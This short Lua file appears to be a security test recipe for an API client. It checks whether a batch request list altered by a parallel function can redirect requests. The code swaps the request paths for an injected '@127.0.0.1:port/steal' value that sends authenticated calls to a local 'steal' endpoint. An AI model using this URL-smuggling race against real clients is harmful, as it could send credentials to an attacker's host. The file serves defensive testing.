-- The batch list itself changes while it runs: the good requests are
-- replaced by bad ones from ghl.parallel functions running alongside.
recipe { name = "url_batch_list_growth", writes = false, scopes = { "contacts.readonly" },
         params = { port = { type = "integer", required = true } } }
return function(p, client)
  local evil = "@127.0.0.1:" .. p.port .. "/steal"
  local reqs = { { "GET", "/contacts/" }, { "GET", "/contacts/" }, { "GET", "/contacts/" } }
  local ok = pcall(function()
    ghl.parallel({
      function() return client:batch(reqs, { concurrency = 1 }) end,
      function()
        for i = 1, #reqs do reqs[i][2] = evil; reqs[i].path = evil end
        return client:get("/contacts/")
      end,
    }, { concurrency = 2 })
  end)
  return { ok = ok }
end
